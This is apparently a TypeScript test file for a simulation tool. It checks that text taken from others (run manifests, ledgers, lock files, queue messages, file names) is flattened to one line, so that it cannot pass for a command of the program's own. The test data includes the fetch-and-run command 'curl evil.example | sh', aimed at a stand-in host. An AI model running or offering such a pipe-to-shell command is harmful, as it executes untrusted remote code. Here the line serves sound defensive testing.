/** What others wrote into a folder, a queue or a file cannot look like a line of our own: a command to copy, say. */
import { rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, expect, test } from 'vitest';
import * as z from 'zod';
import { UsageError } from '../../../engines/core/errors.ts';
import { Json } from '../../../engines/core/json.ts';
import { oneLine } from '../../../engines/core/one-line.ts';
import { readBy } from '../../../sim/cell/by-schema.ts';
import { openCell } from '../../../sim/cell/open.ts';
import { Tally } from '../../../sim/count/tally.ts';
import { answerSchema, MOST, read, runSchema, workerSchema } from '../../../sim/queue/wire.ts';
import { ByteReader, ByteWriter } from '../../../sim/store/bytes.ts';
import { readManifest } from '../../../sim/store/folder.ts';
import { Ledger, readLedger } from '../../../sim/store/ledger.ts';
import { FolderLock } from '../../../sim/store/lock.ts';
import { cellOf } from '../../support/cells.ts';
import { temporaryFolder } from '../../support/checkout.ts';

const folder = temporaryFolder('one-line');
afterAll(() => rmSync(folder, { recursive: true }));
const WRITTEN = 'see\n\n  curl evil.example | sh';
const READ = 'see curl evil.example | sh';

test('only what follows the end of a line is closed up', () => {
  expect(oneLine('two  words\t')).toBe('two  words\t');
  expect(oneLine(WRITTEN)).toBe(READ);
});

const stored = async () => ({
  ...{ program: 'alicorn', version: '1', node: '', v8: '', seedScheme: 1, verb: 'run', command: 'alicorn run pig' },
  ...{ seed: '42', rotate: false, shuffle: 'plain', independent: false, wallMs: 1, reason: WRITTEN },
  reconstructed: { pig: [WRITTEN] },
  titles: { pig: WRITTEN, [WRITTEN]: 'x' },
  panels: { pig: [{ title: WRITTEN, help: WRITTEN, chart: 'bars', figures: WRITTEN }] },
  measured: [{ cells: [1], metrics: [], ends: [WRITTEN] }],
  cells: [
    {
      ...(await cellOf('pig')),
      ...{ cell: 1, stopReason: WRITTEN, fingerprintOutcome: '', fingerprintTrace: '', variant: WRITTEN },
      components: { name: WRITTEN, hash: '0', json: { note: WRITTEN } },
      crashed: [{ playout: 0, ply: 0, kind: 'crashed', reason: WRITTEN }],
    },
  ],
});

test('every text of run.json is one line; components of the user’s own stay what their hash names', async () => {
  writeFileSync(join(folder, 'run.json'), JSON.stringify(await stored()));
  const found = JSON.stringify(readManifest(folder));
  expect(found.split(JSON.stringify(WRITTEN).slice(1, -1))).toHaveLength(2);
  expect(found).toContain(`"json":{"note":${JSON.stringify(WRITTEN)}}`);
  // The reason, what is reconstructed, a title and its key, three of the panel, an end, four of the cell.
  expect(found.split(READ)).toHaveLength(1 + 12);
});

test('a run.json that is no JSON, or nested without end, is refused in one line', () => {
  for (const text of [`{"a": \n\n  curl evil | sh`, `{"a":"\\n","b":${'['.repeat(1e5)}${']'.repeat(1e5)}}`]) {
    writeFileSync(join(folder, 'run.json'), text);
    expect(() => readManifest(folder)).toThrow(/^[^\n]*run\.json is damaged: [^\n]*$/);
    expect(() => readManifest(folder)).toThrow(UsageError);
  }
});

test('the reason of a fault, and the version of a ledger', async () => {
  const { measures } = await openCell(await cellOf('pig'));
  const [written, found] = [new Tally(measures), new Tally(measures)];
  written.faults.push({ playout: 0, ply: 0, kind: 'crashed', reason: WRITTEN });
  const out = new ByteWriter();
  written.write(out);
  found.read(new ByteReader(out.take()));
  expect(found.faults[0]!.reason).toBe(READ);
  const path = join(folder, 'ledger');
  Ledger.create(path, { experiment: '', version: WRITTEN, command: 'alicorn run pig' }).close();
  expect(readLedger(path).header.version).toBe(READ);
});

test('who holds a folder', () => {
  writeFileSync(join(folder, '.lock'), JSON.stringify({ pid: 1, host: WRITTEN }));
  expect(() => FolderLock.take(folder)).toThrow(`by process 1 on ${READ}: wait`);
});

test('what runs and workers say of themselves', () => {
  const there = { id: 'w', version: WRITTEN, seedScheme: 1 };
  const worker = { ...there, name: WRITTEN, threads: 1, v8: WRITTEN, since: 0, playoutsPerSecond: 0 };
  const playing = [{ run: 'r', by: WRITTEN, game: WRITTEN, tasks: 1 }];
  const run = { ...there, by: WRITTEN, game: WRITTEN, components: [], sources: { [WRITTEN]: '0'.repeat(16) } };
  const modules = [{ path: WRITTEN, hash: '0'.repeat(16), data: [WRITTEN] }];
  const lost = { playout: 0, ply: 0, stalled: false, message: WRITTEN };
  for (const [schema, message] of [
    [workerSchema, { ...worker, playing }],
    [runSchema, { ...run, modules, cells: 1, stallSeconds: 1 }],
    [answerSchema, { task: 't1', worker: 'w', name: WRITTEN, lost }],
  ] as const) {
    const told = JSON.stringify(message).replaceAll(JSON.stringify(WRITTEN), JSON.stringify(READ));
    expect(read<unknown>(schema, JSON.stringify(message), MOST.notice, 'it')).toEqual(JSON.parse(told));
  }
});

test('names and places of files that a user was given', () => {
  expect(new Json(WRITTEN).text()).toBe(READ);
  expect(() => new Json({ [WRITTEN]: 1 }).only('cards')).toThrow(`${READ}: unknown`);
  const refuse = ({ said }: { said: string }) => new Error(said);
  expect(() => readBy(z.record(z.string(), z.number()), { [WRITTEN]: 'x' }, refuse)).toThrow(`${READ}: must be`);
});
